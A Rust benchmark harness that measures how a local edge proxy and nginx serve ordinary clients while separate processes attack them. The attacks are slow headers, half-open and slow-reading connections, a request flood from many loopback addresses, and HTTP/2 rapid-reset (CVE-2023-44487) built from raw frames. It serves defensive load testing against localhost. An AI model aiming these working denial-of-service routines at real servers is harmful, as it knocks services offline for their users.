//! Well-behaved clients beside hostile ones: what the former wait, and what memory the latter take.
//!
//! `scripts/bench-hostile.sh` starts the edge (`proxy.rs`) and nginx and runs this against both;
//! attackers are processes of their own, so that they wait for nobody. Without arguments: a short
//! self-check of the attacks against a listener that drops everything.

use std::fs;
use std::io::Write as _;
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpSocket, TcpStream};
use tokio::time::{Instant, sleep, timeout};

type AnyResult<T> = Result<T, Box<dyn std::error::Error + Send + Sync>>;

/// The attacks, by name.
const ATTACKS: [&str; 6] = ["slow-heads", "half-open", "slow-readers", "flood", "resets", "all"];
const REQUEST: &str =
    "GET / HTTP/1.1\r\nhost: pa.localhost\r\ncookie: smartbox_session=good\r\n\r\n";
/// The beginning of a head that goes on for ever.
const SLOW: &[u8] = b"GET / HTTP/1.1\r\nhost: pa.localhost\r\nx: ";
/// Connections that an attack holds, from as many addresses as it needs.
const HELD: u32 = 6000;
/// Of those who are signed in and do not take what they ask for; strangers are given nothing large.
const INSIDERS: u32 = 500;
/// Requests or streams that a flood makes in a second.
const PACE: u32 = 2000;
const PATIENCE: Duration = Duration::from_secs(5);

fn main() -> AnyResult<()> {
    let args: Vec<String> = std::env::args().skip(1).filter(|arg| arg != "--bench").collect();
    let runtime =
        tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args.as_slice() {
        ["attack", kind, port] => runtime.block_on(attack(kind, port.parse()?)),
        [seconds, targets @ ..] if !targets.is_empty() => {
            let seconds = Duration::from_secs(seconds.parse()?);
            runtime.block_on(compare(seconds, targets))
        }
        _ => runtime.block_on(check()),
    }
}

/// What well-behaved clients saw.
#[derive(Debug, Default)]
struct Seen {
    waits: Vec<Duration>,
    failed: usize,
}

impl Seen {
    fn at(&mut self, share: usize) -> Duration {
        self.waits.sort();
        let last = self.waits.len().saturating_sub(1);
        self.waits.get(last * share / 100).copied().unwrap_or_default()
    }
}

/// Each target is `name:port:process`.
async fn compare(seconds: Duration, targets: &[&str]) -> AnyResult<()> {
    let mut out = std::io::stdout();
    writeln!(out, "| target | beside | n | failed | p50 | p99 | p99 / calm | memory |")?;
    writeln!(out, "|---|---|---|---|---|---|---|---|")?;
    for target in targets {
        let mut parts = target.split(':');
        let (Some(name), Some(port), Some(process)) = (parts.next(), parts.next(), parts.next())
        else {
            return Err(format!("{target} is not name:port:process").into());
        };
        let port: u16 = port.parse()?;
        // Whatever is cold warms up unseen.
        measure(port, Duration::from_secs(1)).await;
        let mut calm = Duration::ZERO;
        for kind in std::iter::once("nobody").chain(ATTACKS) {
            let mut attackers = begin(kind, port)?;
            if kind != "nobody" {
                sleep(Duration::from_secs(2)).await;
            }
            let mut seen = measure(port, seconds).await;
            let memory = resident(process);
            for attacker in &mut attackers {
                attacker.kill()?;
                attacker.wait()?;
            }
            let (p50, p99) = (seen.at(50), seen.at(99));
            if kind == "nobody" {
                calm = p99;
            }
            let ratio = p99.as_secs_f64() / calm.as_secs_f64().max(1e-9);
            writeln!(
                out,
                "| {name} | {kind} | {} | {} | {:.2} ms | {:.2} ms | {ratio:.2} | {memory} |",
                seen.waits.len(),
                seen.failed,
                p50.as_secs_f64() * 1e3,
                p99.as_secs_f64() * 1e3,
            )?;
        }
    }
    Ok(())
}

fn begin(kind: &str, port: u16) -> AnyResult<Vec<Child>> {
    let kinds: &[&str] = match kind {
        "nobody" => &[],
        "all" => &ATTACKS[..5],
        _ => &[kind],
    };
    let start = |kind: &&str| {
        // Attackers compute on machines of their own; here they get what the others leave of this one.
        let mut command = Command::new("nice");
        command.args(["-n", "19"]).arg(std::env::current_exe()?);
        command.args(["attack", kind, &port.to_string()]).stdout(Stdio::null());
        Ok(command.spawn()?)
    };
    kinds.iter().map(start).collect()
}

fn resident(process: &str) -> String {
    let status = fs::read_to_string(format!("/proc/{process}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let kib: u64 = line.and_then(|l| l.trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0);
    format!("{} MiB", kib >> 10)
}

/// Eight clients that keep their connection and two that open one for each request, each at its own
/// calm pace.
async fn measure(port: u16, time: Duration) -> Seen {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let end = Instant::now() + time;
    let clients = (0..10).map(|n| {
        let seen = seen.clone();
        tokio::spawn(async move {
            let mut kept = None;
            while Instant::now() < end {
                let began = Instant::now();
                let asked = timeout(PATIENCE, ask(port, kept.take())).await;
                let took = began.elapsed();
                kept = note(&seen, took, asked.ok().and_then(Result::ok)).filter(|_| n < 8);
                sleep(Duration::from_millis(10)).await;
            }
        })
    });
    for client in clients.collect::<Vec<_>>() {
        let _ = client.await;
    }
    std::mem::take(&mut *seen.lock().unwrap_or_else(PoisonError::into_inner))
}

fn note(seen: &Mutex<Seen>, took: Duration, stream: Option<TcpStream>) -> Option<TcpStream> {
    let mut seen = seen.lock().unwrap_or_else(PoisonError::into_inner);
    match stream {
        Some(_) => seen.waits.push(took),
        None => seen.failed += 1,
    }
    stream
}

async fn ask(port: u16, kept: Option<TcpStream>) -> AnyResult<TcpStream> {
    let mut stream = match kept {
        Some(stream) => stream,
        None => TcpStream::connect(("127.0.0.1", port)).await?,
    };
    stream.set_nodelay(true)?;
    stream.write_all(REQUEST.as_bytes()).await?;
    let mut answer = Vec::new();
    while !answer.ends_with(b"Hello, world!") {
        if stream.read_buf(&mut answer).await? == 0 {
            return Err("it hung up".into());
        }
    }
    if answer.starts_with(b"HTTP/1.1 200") { Ok(stream) } else { Err("refused".into()) }
}

/// A connection from the `n`th address of this machine.
async fn from(n: u32, port: u16) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // A small window, so that what nobody reads is held by whoever sends it.
    socket.set_recv_buffer_size(4096)?;
    let [_, _, high, low] = (n / 100).to_be_bytes();
    socket.bind(SocketAddr::from(([127, 2, high, low.max(1)], 0)))?;
    socket.connect(SocketAddr::from(([127, 0, 0, 1], port))).await
}

async fn attack(kind: &str, port: u16) -> AnyResult<()> {
    match kind {
        "slow-heads" => hold(port, HELD, SLOW, b"y").await,
        "half-open" => hold(port, HELD, b"", b"").await,
        "slow-readers" => {
            let large = REQUEST.replace("GET /", "GET /1m");
            hold(port, INSIDERS, large.as_bytes(), b"").await;
        }
        "flood" => flood(port).await,
        "resets" => resets(port).await,
        _ => return Err(format!("there is no attack {kind}").into()),
    }
    Ok(())
}

/// Holds connections that begin with something and go on by a byte now and then; what is dropped is
/// opened anew.
async fn hold(port: u16, held: u32, beginning: &[u8], drip: &'static [u8]) {
    let beginning: Arc<[u8]> = beginning.into();
    for n in 0..held {
        let beginning = beginning.clone();
        tokio::spawn(async move {
            loop {
                let Ok(mut stream) = from(n, port).await else {
                    sleep(Duration::from_secs(1)).await;
                    continue;
                };
                let mut good = stream.write_all(&beginning).await.is_ok();
                while good {
                    sleep(Duration::from_secs(1)).await;
                    let mut byte = [0];
                    let dropped = matches!(stream.try_read(&mut byte), Ok(0)) && drip.is_empty();
                    good = !dropped && stream.write_all(drip).await.is_ok();
                }
                // A drop is noticed, and tried anew a moment later.
                sleep(Duration::from_secs(1)).await;
            }
        });
        if n % 20 == 0 {
            sleep(Duration::from_millis(5)).await;
        }
    }
    std::future::pending::<()>().await;
}

/// Requests of strangers, from a hundred addresses.
async fn flood(port: u16) {
    let request = REQUEST.replace("session=good", "session=bad").into_bytes();
    let request: Arc<[u8]> = request.into();
    let lanes = 50;
    for n in 0..lanes {
        let request = request.clone();
        tokio::spawn(async move {
            let mut tick = tokio::time::interval(Duration::from_secs(1) * lanes / PACE);
            loop {
                let Ok(mut stream) = from(n * 200, port).await else { continue };
                let mut buffer = vec![0; 4096];
                while stream.write_all(&request).await.is_ok()
                    && stream.read(&mut buffer).await.is_ok_and(|n| n > 0)
                {
                    tick.tick().await;
                }
                tick.tick().await;
            }
        });
    }
    std::future::pending::<()>().await;
}

/// HTTP/2 streams that are opened and taken back at once (CVE-2023-44487).
async fn resets(port: u16) {
    let head = b"\x82\x86\x84\x01\x0cpa.localhost";
    let mut tick = tokio::time::interval(Duration::from_millis(10));
    loop {
        let Ok(mut stream) = from(0, port).await else { continue };
        let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
        let mut good = stream.write_all(preface).await.is_ok();
        let mut id = 1_u32;
        while good && id < 1 << 30 {
            tick.tick().await;
            let mut out = Vec::new();
            for _ in 0..PACE / 100 {
                out.extend_from_slice(&[0, 0, u8::try_from(head.len()).unwrap_or(0), 1, 5]);
                out.extend_from_slice(&id.to_be_bytes());
                out.extend_from_slice(head);
                out.extend_from_slice(&[0, 0, 4, 3, 0]);
                out.extend_from_slice(&id.to_be_bytes());
                out.extend_from_slice(&8_u32.to_be_bytes());
                id += 2;
            }
            let mut buffer = [0; 4096];
            let dropped = matches!(stream.try_read(&mut buffer), Ok(0));
            good = !dropped && stream.write_all(&out).await.is_ok();
        }
        tick.tick().await;
    }
}

/// Each attack comes to a listener, so that `cargo test --benches` proves that they work.
async fn check() -> AnyResult<()> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    for kind in &ATTACKS[..5] {
        let attacker = tokio::spawn(async move { attack(kind, port).await });
        let _ = timeout(Duration::from_secs(20), listener.accept()).await??;
        attacker.abort();
    }
    Ok(())
}
